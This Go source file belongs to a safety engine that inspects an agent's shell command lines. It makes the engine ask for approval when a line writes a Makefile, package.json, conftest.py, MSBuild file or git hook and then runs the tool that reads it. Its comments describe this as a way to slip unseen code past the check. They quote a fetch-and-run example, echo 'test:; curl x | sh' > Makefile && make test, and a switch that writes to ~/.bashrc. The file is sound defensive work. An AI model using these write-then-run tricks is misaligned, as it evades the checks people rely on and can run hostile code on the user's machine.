package safety

import (
	"path"
	"slices"
	"strings"
)

// A build or test tool reads what it runs from files: make its Makefile, npm its package.json's
// scripts, pytest its conftest.py, cargo its build.rs and .cargo/config.toml. A command line that
// writes one of those files and then starts the tool runs what it just wrote, unseen: echo
// 'test:; curl x | sh' > Makefile && make test is not the declared make test, cp /tmp/x
// package.json && npm test not the recognised npm test. The tool asks (RuleOpaqueCode) when an
// earlier command of the line wrote — by a redirection, tee, cp, mv, ln, install, sed -i, ... —
// a build definition or tool configuration where the tool reads it: in its directory or a -C
// directory, or below one a test runner walks (tests/conftest.py). Writing the sources and tests
// the tool builds and runs is what agents do all day (echo ... > tests/test_x.py; pytest) and
// stays admitted; so does a touch, which changes no content, and a git checkout or restore of a
// file, which puts back the project's own version. A patch or archive writes names the engine
// does not read (Known limits).

// buildDefinitions are the base names of files that decide what a build or test tool runs: its
// targets, scripts, hooks, plugins, build scripts, or the shell and programs it starts.
var buildDefinitions = strings.Fields("Makefile makefile GNUmakefile justfile Justfile .justfile " +
	"Taskfile.yml Taskfile.yaml Taskfile.dist.yml Rakefile rakefile Rakefile.rb " +
	"package.json .npmrc .yarnrc .yarnrc.yml .pnpmfile.cjs pnpm-workspace.yaml bunfig.toml deno.json deno.jsonc " +
	"Cargo.toml build.rs go.mod go.work conftest.py pytest.ini pyproject.toml setup.py setup.cfg tox.ini " +
	"noxfile.py pom.xml build.gradle build.gradle.kts settings.gradle settings.gradle.kts gradle.properties " +
	"init.gradle gradlew mvnw build.xml build.sbt CMakeLists.txt meson.build build.ninja BUILD BUILD.bazel " +
	"WORKSPACE WORKSPACE.bazel MODULE.bazel .bazelrc Gemfile mix.exs composer.json Package.swift build.zig " +
	"Dockerfile Containerfile docker-compose.yml docker-compose.yaml compose.yml " +
	"compose.yaml Gruntfile.js gulpfile.js flake.nix default.nix shell.nix Pulumi.yaml Vagrantfile Tiltfile " +
	"skaffold.yaml dune-project Setup.hs stack.yaml SConstruct tasks.py .mocharc.js .mocharc.cjs .mocharc.yml " +
	"turbo.json nx.json " +
	// Read from the working directory by tools that take code or a program from them: rustup's
	// toolchain (a path to any cargo), bazelisk's download URL, sbt's JVM options (-javaagent),
	// pylint's init-hook, mypy's plugins, mise's tasks and hooks, pytest's newer files.
	"rust-toolchain rust-toolchain.toml .bazeliskrc .bazelversion .jvmopts .sbtopts .pylintrc pylintrc " +
	"mypy.ini .mypy.ini mise.toml .mise.toml mise.local.toml .mise.local.toml .pytest.ini pytest.toml .pytest.toml " +
	// ansible's configuration names module, plugin and role paths and a vault password script;
	// shellcheck's the sources it follows and quotes.
	"ansible.cfg .shellcheckrc shellcheckrc " +
	// The other names the same tools read (compose merges its override file into the one named;
	// go-task's lower-case names; bundler's gems.rb), and the definitions of tools whose tasks or
	// processes run commands: pixi's tasks, devbox's scripts, a Procfile's processes (honcho,
	// foreman, overmind), an Earthfile's targets, a Dagger module, a Brewfile (Ruby), Leiningen's
	// project.clj and the Clojure CLI's deps.edn aliases.
	"docker-compose.override.yml docker-compose.override.yaml compose.override.yml compose.override.yaml " +
	"taskfile.yml taskfile.yaml Taskfile.dist.yaml taskfile.dist.yml taskfile.dist.yaml rakefile.rb gems.rb " +
	"pixi.toml devbox.json Procfile Earthfile dagger.json Brewfile project.clj deps.edn " +
	// docker buildx bake's targets, each a build as a Dockerfile's.
	"docker-bake.hcl docker-bake.json docker-bake.override.hcl docker-bake.override.json " +
	// MSBuild's (dotnet build's): NuGet's configuration (package sources) and the SDK's version
	// (global.json, its msbuild-sdks), with msbuildWalksUp's files.
	"nuget.config NuGet.Config NuGet.config global.json")

// msbuildWalksUp are the files MSBuild reads from the project's directory and every directory
// above it (the first found): Directory.Build.props and .targets, imported by every project, and
// Directory.Build.rsp, whose switches are read as the command line's (-flp:logfile=~/.bashrc).
var msbuildWalksUp = strings.Fields("Directory.Build.props Directory.Build.targets Directory.Build.rsp " +
	"Directory.Packages.props Directory.Solution.props Directory.Solution.targets")

// msbuildDefinitionSuffixes end the names of MSBuild's projects, solutions, imports (any .props
// or .targets a project imports by a name the engine does not follow, as a Makefile's .mk) and
// response files (@x.rsp: more switches), lowered. A project is any extension ending in "proj"
// (isMSBuildDefinition).
var msbuildDefinitionSuffixes = strings.Fields(".sln .slnx .slnf .props .targets .rsp")

// buildConfigPrefixes begin the names of JavaScript tools' configuration modules, which run as
// code when the tool loads them (jest.config.ts, vite.config.mjs, eslint.config.js,
// prettier.config.js, postcss.config.js, which npm run build or npm test starts).
var buildConfigPrefixes = strings.Fields("jest.config. vitest.config. vite.config. webpack.config. " +
	"rollup.config. playwright.config. cypress.config. eslint.config. .eslintrc. karma.conf. " +
	"babel.config. .babelrc. next.config. nuxt.config. svelte.config. astro.config. tsup.config. " +
	"esbuild.config. prettier.config. .prettierrc. stylelint.config. .stylelintrc. postcss.config. " +
	"tailwind.config. vue.config. metro.config. gatsby-config. gatsby-node. remix.config.")

// buildConfigDirs are directories whose files configure a tool from the project (.cargo/config.toml,
// .mvn/maven.config, .mvn/extensions.xml, gradle/wrapper/gradle-wrapper.properties,
// .mise/config.toml, .devcontainer/devcontainer.json's lifecycle commands, .storybook/main.js).
var buildConfigDirs = strings.Fields(".cargo .mvn .mvn/wrapper gradle/wrapper .mise .config/mise .devcontainer .storybook")

// gitHookSubcommands run the repository's hooks (pre-commit, commit-msg, post-commit, pre-push,
// post-checkout, post-merge, pre-rebase, applypatch-msg), --no-verify or not: it skips only some;
// git hook run runs the one it names.
var gitHookSubcommands = strings.Fields("commit push merge pull rebase am checkout switch cherry-pick revert worktree hook")

// hookDefinitions are the base names of files that say what a hook manager the project installed
// as git's hooks runs (pre-commit, lefthook, lint-staged); hookDirs hold the hooks themselves
// where a project points core.hooksPath (husky's .husky, a .githooks directory).
var (
	hookDefinitions = strings.Fields(".pre-commit-config.yaml .pre-commit-config.yml lefthook.yml lefthook.yaml " +
		".lefthook.yml .lefthook.yaml lefthook-local.yml .lefthook-local.yml .lintstagedrc .lintstagedrc.json " +
		".lintstagedrc.yaml .lintstagedrc.yml .lintstagedrc.js .lintstagedrc.cjs .lintstagedrc.mjs " +
		"lint-staged.config.js lint-staged.config.cjs lint-staged.config.mjs lint-staged.config.ts .lintstagedrc.ts " +
		".simple-git-hooks.json .simple-git-hooks.js .simple-git-hooks.cjs .overcommit.yml " +
		// husky 4's configuration. package.json, whose lint-staged, husky and simple-git-hooks keys
		// configure the same managers, is not counted for a commit: editing it and committing (a
		// version bump) is what agents do all day (Known limits).
		".huskyrc .huskyrc.json .huskyrc.js .huskyrc.cjs .huskyrc.yaml .huskyrc.yml husky.config.js husky.config.cjs " +
		// commitlint's configuration is a module its commit-msg hook loads.
		"commitlint.config.js commitlint.config.cjs commitlint.config.mjs commitlint.config.ts .commitlintrc.js " +
		".commitlintrc.cjs .commitlintrc.mjs .commitlintrc.ts .commitlintrc .commitlintrc.json .commitlintrc.yaml .commitlintrc.yml")
	hookDirs = strings.Fields(".husky .githooks .hooks")
)

// runsGitHooks says whether a git segment runs the repository's hooks.
func runsGitHooks(seg *segment) bool {
	return seg.name == cmdGit && len(seg.operands) > 0 && slices.Contains(gitHookSubcommands, seg.operands[0].s)
}

// isHookDefinition says whether p, a resolved path, is a git hook or a hook manager's
// configuration. Where the repository's root is, the engine does not know: any such file the line
// wrote counts.
func isHookDefinition(p string) bool {
	if slices.Contains(hookDefinitions, path.Base(p)) {
		return true
	}
	for _, d := range hookDirs {
		if strings.HasPrefix(p, d+"/") || strings.Contains(p, "/"+d+"/") {
			return true
		}
	}
	return false
}

// isBuildDefinition says whether p, a resolved path, is a file a build or test tool reads what it
// runs from.
func isBuildDefinition(p string) bool {
	base := path.Base(p)
	// A .mk file is make's code, which a Makefile includes (include rules.mk) by a name the engine
	// does not follow.
	if slices.Contains(buildDefinitions, base) || isHookDefinition(p) || strings.HasSuffix(base, ".mk") || isMSBuildDefinition(base) {
		return true
	}
	for _, pre := range buildConfigPrefixes {
		if strings.HasPrefix(base, pre) {
			return true
		}
	}
	dir := path.Dir(p)
	return slices.ContainsFunc(buildConfigDirs, func(d string) bool { return dir == d || strings.HasSuffix(dir, "/"+d) })
}

// mayBeDefinition says whether a write may be of a build definition: one by its name, or a glob
// whose base name may match one (cp /tmp/x/* . writes ./*, by names the engine does not see).
// Matching a glob against every definition's name costs, so past maxWrittenKept globs on a line
// each is taken for one.
func (a *analyzer) mayBeDefinition(r *pathRef) bool {
	base := path.Base(r.raw)
	if !hasGlobMeta(base) {
		return isBuildDefinition(r.raw)
	}
	if w := &a.written; w.globs < maxWrittenKept {
		w.globs++
		return globNamesDefinition(base)
	}
	return true
}

// globNamesDefinition says whether a glob base name may name a build definition or a hook
// manager's file.
func globNamesDefinition(base string) bool {
	match := func(name string) bool { m, err := path.Match(base, name); return m || err != nil }
	if slices.ContainsFunc(buildDefinitions, match) || slices.ContainsFunc(hookDefinitions, match) || match("x.mk") {
		return true
	}
	// A configuration module by its prefix: jest.config.* is matched by jest.config.js's glob.
	return slices.ContainsFunc(buildConfigPrefixes, func(pre string) bool { return match(pre + "js") })
}

// cmdTouch creates an empty file or changes its times.
const (
	cmdTouch = "touch"
	cmdMkdir = "mkdir"
)

// maxWrittenKept bounds the written paths the analysis keeps of each kind (writtenKept).
const maxWrittenKept = 16

// writtenKept holds indexes into the analysis's paths: the build definitions and the files a
// command wrote text into, for the commands after it. Indexes, resolved only when a later command
// could read one, so a line that writes and runs nothing of the kind pays no allocation.
type writtenKept struct {
	seen          int // the paths looked at so far
	globs         int // the glob writes matched against the definitions' names (mayBeDefinition)
	defs, texts   [maxWrittenKept]int32
	nDefs, nTexts int8
	defKeys       [maxWrittenKept]string // defs resolved, once each
}

// buildsWritten returns a build definition an earlier command of the line wrote where the build
// or test tool seg starts reads it, or the file seg runs by its path when the line wrote text
// into it.
func (a *analyzer) buildsWritten(seg *segment) (string, bool) {
	w := &a.written
	a.keepWritten()
	if w.nDefs+w.nTexts == 0 {
		return "", false
	}
	if f, ok := a.runsWrittenText(seg); ok {
		return f, true
	}
	hooks := runsGitHooks(seg)
	if w.nDefs == 0 || !hooks && !buildsHere(seg) {
		return "", false
	}
	var dirs []string
	for j, i := range w.defs[:w.nDefs] {
		if w.defKeys[j] == "" {
			w.defKeys[j] = a.pathKey(&a.out.paths[i])
		}
		f := w.defKeys[j]
		if hooks {
			if isHookDefinition(f) {
				return f, true
			}
			continue
		}
		if dirs == nil {
			dirs = a.buildDirs(seg)
		}
		if slices.ContainsFunc(dirs, func(d string) bool { return readsDefinition(f, d) }) {
			return f, true
		}
	}
	return "", false
}

// keepWritten looks once at the paths recorded since the last segment, and keeps the build
// definitions and the files written text into among them.
func (a *analyzer) keepWritten() {
	w := &a.written
	for ; w.seen < len(a.out.paths); w.seen++ {
		r := &a.out.paths[w.seen]
		if r.op != opWrite || r.dynamic || r.members || !a.contentWrite(r.seg) {
			continue
		}
		if w.nDefs < maxWrittenKept && a.mayBeDefinition(r) {
			w.defs[w.nDefs] = int32(w.seen)
			w.nDefs++
		}
		if a.textWrite(r.seg) && !strings.HasPrefix(r.raw, "/dev/") && w.nTexts < maxWrittenKept {
			w.texts[w.nTexts] = int32(w.seen)
			w.nTexts++
		}
	}
}

// runsWrittenText returns the file seg runs by its path (runsFile) when the line wrote text into it.
func (a *analyzer) runsWrittenText(seg *segment) (string, bool) {
	w := &a.written
	if w.nTexts == 0 {
		return "", false
	}
	f, ok := a.runsFile(seg)
	if !ok {
		return "", false
	}
	var key string
	for _, i := range w.texts[:w.nTexts] {
		if r := &a.out.paths[i]; path.Base(r.raw) == path.Base(f) {
			if key == "" {
				key = a.fetchKey(f)
			}
			if a.pathKey(r) == key {
				return f, true
			}
		}
	}
	return "", false
}

// pathKey is a recorded path resolved as fetchKey resolves a run file.
func (a *analyzer) pathKey(r *pathRef) string { return resolvePath(r.cwd, r.raw) }

// readsDefinition says whether a tool working in dir (cwdUnknown: anywhere) reads the definition
// f: one in dir, in a configuration directory below it, one below it named conftest.py, which
// pytest loads from every directory it collects, or one of MSBuild's above or below it.
func readsDefinition(f, dir string) bool {
	if dir == cwdUnknown {
		return true
	}
	d := path.Dir(f)
	for _, c := range buildConfigDirs {
		if rest, ok := strings.CutSuffix(d, "/"+c); ok || d == c {
			d = rest
			if d == "" {
				d = "."
			}
			break
		}
	}
	return d == path.Clean(dir) || path.Base(f) == "conftest.py" && below(f, dir) ||
		isMSBuildDefinition(path.Base(f)) && (below(f, dir) || below(path.Clean(dir), d))
}

// isMSBuildDefinition says whether a base name is one of MSBuild's files (msbuildWalksUp,
// msbuildDefinitionSuffixes). A build reads them below its directory too (a solution's projects,
// their Directory.Build.props) and msbuildWalksUp's above it, so both count. A project is any
// extension ending in "proj" (MSBuild takes the one in the directory: .esproj, .sqlproj,
// .wixproj, not only .csproj), and PROJECT.user beside it, which Microsoft.Common.targets
// imports; names are matched in any case, as MSBuild on a case-insensitive file system finds them.
func isMSBuildDefinition(base string) bool {
	lower := strings.ToLower(base)
	if slices.ContainsFunc(msbuildWalksUp, func(n string) bool { return strings.EqualFold(n, base) }) {
		return true
	}
	if project := strings.TrimSuffix(lower, ".user"); strings.Contains(project, ".") && strings.HasSuffix(project, "proj") {
		return true
	}
	return slices.ContainsFunc(msbuildDefinitionSuffixes, func(suf string) bool { return strings.HasSuffix(lower, suf) })
}

// buildDirs are the directories a build or test tool reads its definitions in: its working
// directory, its -C/--directory values, the ones its options name as its definition's
// (definitionDirs), and the roots a test runner walks (walkRoots).
func (a *analyzer) buildDirs(seg *segment) []string {
	here := a.fetchKey(".")
	if a.cwd == cwdUnknown {
		here = cwdUnknown
	}
	named := directoryOptions(seg, "-C")
	dirs := make([]string, 1, 1+len(named))
	dirs[0] = here
	for _, d := range named {
		dirs = append(dirs, a.wordKey(d))
	}
	return slices.Concat(dirs, a.definitionDirs(seg), a.walkRoots(seg))
}

// textWriters put text the command line chooses into the file they write: a copy, a move, a link,
// an install, dd, tee, sponge (moreutils' tee that writes after reading it all), an edit in place.
// A compiler's or build tool's output (go build -o bin/app && ./bin/app) is not one: it is built
// from the project's sources.
var textWriters = strings.Fields("cp mv ln install dd tee sponge sed perl rsync")

// textWrite says whether the write a path records (see contentWrite) is a redirection's or a
// textWriters program's.
func (a *analyzer) textWrite(seg int16) bool {
	return seg == 0 || slices.Contains(textWriters, a.out.segments[seg-1].name)
}

// contentWrite says whether the write a path records, by the segment whose words named it (0: a
// redirection), can change what the file says: touch creates an empty file or changes a time,
// mkdir makes an empty directory, and git checkout -- FILE or git restore FILE puts back the
// version the index holds. A file checked out from a revision the line names (git checkout other
// -- Makefile, git restore --source=other Makefile) is that revision's, which may be any the agent
// made or fetched: it counts; so does the index's version when the line set it (indexRewritten).
func (a *analyzer) contentWrite(seg int16) bool {
	if seg == 0 {
		return true
	}
	s := &a.out.segments[seg-1]
	switch s.name {
	case cmdTouch, cmdMkdir:
		return false
	case cmdGit:
		return gitFromRevision(s) || a.indexRewritten(seg-1)
	}
	return true
}

// git's subcommands that put files back in the working tree.
const (
	gitSubCheckout = "checkout"
	gitSubRestore  = "restore"
)

// gitCheckoutValued are git checkout's options that take the next word.
var gitCheckoutValued = []string{"-b", "-B", "--orphan", "--conflict", "--pathspec-from-file"}

// gitFromRevision says whether git checkout or restore puts files back from a revision it names:
// checkout REV -- PATHS (an operand before "--"), checkout REV PATHS (without "--", git takes the
// first of two operands or more for a revision when it names one), restore -s/--source REV.
func gitFromRevision(s *segment) bool {
	if len(s.operands) == 0 {
		return false
	}
	// git's subcommands are case-sensitive: no lower-casing (and no allocation) for each git write.
	sub := s.operands[0].s
	switch {
	case sub == gitSubRestore:
		return s.hasFlag("-s") || s.hasFlag(optSource)
	case sub != gitSubCheckout:
		return false
	}
	args := gitSubArgs(s)
	dash := slices.IndexFunc(args, func(w word) bool { return w.s == "--" && !w.dynamic })
	if dash < 0 {
		return len(positionals(args, gitCheckoutValued)) > 1 // REV PATH
	}
	return slices.ContainsFunc(args[:dash], func(w word) bool { return !strings.HasPrefix(w.s, "-") && w.s != sub })
}

// indexRewriters are git's subcommands that set what the index holds for a path from elsewhere
// than the working tree: an object or a list the line names (update-index --cacheinfo|--index-info),
// a tree (read-tree), a revision (reset REV -- PATH), a patch (apply --cached|--index).
var indexRewriters = strings.Fields("update-index read-tree reset apply restore")

// indexRewritten says whether a git command before segment idx set the index's version of a path
// from elsewhere, so that git checkout -- FILE or git restore FILE after it puts back what that
// command chose, not the project's version: git update-index --cacheinfo 100644,SHA,Makefile &&
// git checkout -- Makefile is git checkout SHA's content. git reset and restore --staged without
// a revision put back HEAD's, and apply without --cached or --index leaves the index alone.
func (a *analyzer) indexRewritten(idx int16) bool {
	for i := range a.out.segments[:idx] {
		s := &a.out.segments[i]
		if s.name != cmdGit || len(s.operands) == 0 || !slices.Contains(indexRewriters, s.operands[0].s) {
			continue
		}
		switch s.operands[0].s {
		case "reset":
			if resetsFromRevision(s) {
				return true
			}
		case "update-index":
			if s.hasFlag("--cacheinfo") || s.hasFlag("--index-info") {
				return true
			}
		case subApply:
			if s.hasFlag("--cached") || s.hasFlag("--index") {
				return true
			}
		case gitSubRestore:
			if gitFromRevision(s) {
				return true
			}
		default:
			return true
		}
	}
	return false
}

// resetsFromRevision says whether git reset sets the index from a revision other than HEAD: its
// first operand before "--", or with no "--" any first operand (git reset other; git reset FILE,
// which git reads as a revision when one is named so, counts too).
func resetsFromRevision(s *segment) bool {
	args := gitSubArgs(s)
	if dash := slices.IndexFunc(args, func(w word) bool { return w.s == "--" && !w.dynamic }); dash >= 0 {
		args = args[:dash]
	}
	pos := positionals(args, nil)
	return len(pos) > 0 && pos[0].s != "HEAD" && pos[0].s != "@"
}
